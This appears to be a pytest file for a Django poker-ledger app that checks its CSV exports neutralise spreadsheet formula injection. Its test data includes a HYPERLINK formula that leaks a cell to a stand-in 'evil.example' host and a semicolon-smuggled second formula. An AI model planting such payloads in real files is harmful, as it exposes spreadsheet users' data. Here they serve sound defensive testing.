"""CSV files: a name is never a formula in a spreadsheet (OWASP "CSV Injection"), and the numbers
Pott writes stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from config.text import spreadsheet_text
from ledger.models import Player, Session
from tests.pages import a_settled_night

pytestmark = pytest.mark.django_db

# What a spreadsheet would run: a formula, arithmetic, a function, the same after a tab or a
# carriage return.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")', "+1+1", "-5", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip
# Split into a second cell, a formula, by a spreadsheet that separates cells with semicolons
# (Excel in Swedish, German, Icelandic).
SEMICOLON = 'Bo;=HYPERLINK("http://evil.example")'


@pytest.mark.parametrize("name", FORMULAS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(name: str) -> None:
    assert spreadsheet_text(name) == "'" + name


@pytest.mark.parametrize("name", ["Anna", "Bo-Göran", "Åsa = the boss", "'quoted", "", "50"])
def test_other_text_stays_as_it_is(name: str) -> None:
    assert spreadsheet_text(name) == name


def rows(content: bytes) -> list[list[object]]:
    """The file as a spreadsheet reads it: quoted cells are text, unquoted ones numbers."""
    return list(csv.reader(io.StringIO(content.decode()), quoting=csv.QUOTE_NONNUMERIC))


@pytest.fixture
def hostile_night(logged_in: Client, host: object) -> Session:
    return a_settled_night(logged_in, host, (FORMULAS[0], "-5", SEMICOLON), "=1+1")


def test_the_session_csv_neutralises_names_and_keeps_numbers(
    logged_in: Client, hostile_night: Session
) -> None:
    response = logged_in.get(f"/ledger/sessions/{hostile_night.pk}/session.csv")

    results, transfers = rows(response.content)[1:4], rows(response.content)[6:]
    assert sorted(results) == [
        ["'-5", 200, 0, 200, 150, -5000, "SEK"],
        ["'" + FORMULAS[0], 200, 0, 200, 350, 15000, "SEK"],
        [SEMICOLON, 200, 0, 200, 100, -10000, "SEK"],
    ]
    assert sorted(row[:4] for row in transfers) == [
        ["'-5", "'" + FORMULAS[0], 5000, "SEK"],
        [SEMICOLON, "'" + FORMULAS[0], 10000, "SEK"],
    ]
    # Text is quoted, so a spreadsheet splitting at semicolons keeps the name in one cell.
    assert '"Bo;=HYPERLINK(""http://evil.example"")"' in response.content.decode()


def test_the_history_csv_neutralises_names_and_session_names(
    logged_in: Client, hostile_night: Session
) -> None:
    response = logged_in.get("/ledger/history.csv")

    lines = rows(response.content)[1:]
    assert sorted((line[1], line[2], line[5]) for line in lines) == [
        ("'=1+1", "'-5", -5000),
        ("'=1+1", "'" + FORMULAS[0], 15000),
        ("'=1+1", SEMICOLON, -10000),
    ]


def test_every_csv_writer_uses_the_one_helper() -> None:
    """A new CSV export must go through config.text (csv_writer, spreadsheet_text)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [
        path.relative_to(root).as_posix()
        for folder in ("config", "dealer", "ledger")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["config/text.py"]


def test_a_player_named_like_a_number_is_text_in_the_csv(logged_in: Client, host: object) -> None:
    night = a_settled_night(logged_in, host, ("100", "Bo", "Cia"), "Friday")
    response = logged_in.get(f"/ledger/sessions/{night.pk}/session.csv")

    assert rows(response.content)[1][0] == "100"
    assert Player.objects.filter(name="100").exists()
